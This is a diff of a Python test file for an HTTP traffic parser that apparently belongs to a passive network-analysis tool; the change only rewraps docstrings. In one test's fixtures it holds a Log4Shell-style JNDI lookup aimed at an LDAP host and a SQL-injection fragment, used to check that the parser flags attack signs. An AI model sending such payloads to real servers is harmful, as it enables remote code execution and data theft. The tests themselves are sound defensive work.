@@ -1,4 +1,6 @@
-"""HTTP: who asks whom with which program, what servers say of themselves, and what is not theirs; no secrets; streams cut anywhere."""
+"""HTTP: who asks whom with which program, what servers say of themselves, and what is not theirs; no secrets; streams
+cut anywhere.
+"""
 
 from __future__ import annotations
 
@@ -53,7 +55,9 @@ def sample() -> list[tuple[list[object], list[object]]]:
 
 
 def test_description_of_a_gateway() -> None:
-    """A UPnP description is the server's word on itself; its embedded devices and comments are not. A control call names its action."""
+    """A UPnP description is the server's word on itself; its embedded devices and comments are not. A control call
+    names its action.
+    """
     asked, head, body, mapping, refused = sample()[:5]
     program = "Linux/5.4, UPnP/1.1, MiniUPnPc/2.2.4"
     assert asked[0] == [
@@ -92,7 +96,9 @@ def test_description_of_a_gateway() -> None:
 
 
 def test_camera_behind_a_password() -> None:
-    """Challenge, digest and basic credentials, a compressed page, a login, and device information in chunks; no secret anywhere."""
+    """Challenge, digest and basic credentials, a compressed page, a login, and device information in chunks; no secret
+    anywhere.
+    """
     said = sample()[5:15]
     assert said[1][0] == [
         (
@@ -172,7 +178,9 @@ def test_metadata_and_home_network_administration() -> None:
 
 
 def test_proxies_lend_nothing() -> None:
-    """A browser's words to a proxy are its own; what the proxy gives back is not the proxy's, nor what it asks for others."""
+    """A browser's words to a proxy are its own; what the proxy gives back is not the proxy's, nor what it asks for
+    others.
+    """
     to_proxy, from_proxy, passed_on, passed_back = sample()[19:23]
     assert [fact[2] for fact in to_proxy[1]] == ["http.user_agent"]
     assert to_proxy[0][0][2:4] == ("shop.example", "http://shop.example/a?q=1")
@@ -210,7 +218,9 @@ def test_tunnel_and_other_protocols_end_the_stream() -> None:
     [b"CONNECT a:443 HTTP/1.1\r\n\r\n", b"GET /chat HTTP/1.1\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n"],
 )
 def test_a_tunnel_whose_answer_is_not_heard(asking: bytes) -> None:
-    """Where the capture has only the client's side, what it says in its tunnel is no broken HTTP; who was refused asks again."""
+    """Where the capture has only the client's side, what it says in its tunnel is no broken HTTP; who was refused asks
+    again.
+    """
     stream = Http().stream(CLIENT)
     assert len(events(feed(stream, asking, True))) == 1
     assert feed(stream, b"\x16\x03\x01\0\xc0\1" + bytes(60), True) == []
@@ -423,7 +433,9 @@ def test_gap_inside_a_body() -> None:
 
 
 def test_gap_that_may_hold_a_request() -> None:
-    """Where a request may have been lost the server may be a proxy: nothing is its own until a request was heard again."""
+    """Where a request may have been lost the server may be a proxy: nothing is its own until a
+    request was heard again.
+    """
     stream = Http().stream(CLIENT)
     list(stream.gap(CLIENT, 100, True))
     assert values(feed(stream, ok())) == []
@@ -485,7 +497,9 @@ def test_hostile_xml_says_nothing() -> None:
 
 
 def test_unknown_methods_and_careless_fields() -> None:
-    """Lines that are no fields are passed over, folded ones belong to the one before, several of one name are joined."""
+    """Lines that are no fields are passed over, folded ones belong to the one before, several of
+    one name are joined.
+    """
     said = feed(
         Http().stream(CLIENT),
         b"VERSION-CONTROL /a HTTP/1.0\nno field\nHost: [2001:db8::1]:80\nUser-Agent: a\n b\nuser-agent: c\n\n",
@@ -513,7 +527,9 @@ def test_unknown_methods_and_careless_fields() -> None:
 
 
 def test_shapes_instead_of_secrets() -> None:
-    """Cookies and bodies are told by kind and length; what stands in them only where it holds the signs of commands and queries."""
+    """Cookies and bodies are told by kind and length; what stands in them only where it holds the signs of commands and
+    queries.
+    """
     head = b"POST /a?id=1 HTTP/1.1\r\nHost: cam\r\nCookie: session=t05mP2IPW8aKUwELvQCHJfccq1o=; lang=en\r\nX-Api-Version: ${jndi:ldap://10.0.0.9/a}\r\n"
     body = b"a=6b3d6b23\x26page=1%27+or+1%3D1\x26password=%24%7Bnot-told%7D"
     head += b"Content-Type: application/x-www-form-urlencoded\r\nContent-Length: %d\r\n\r\n" % len(body)
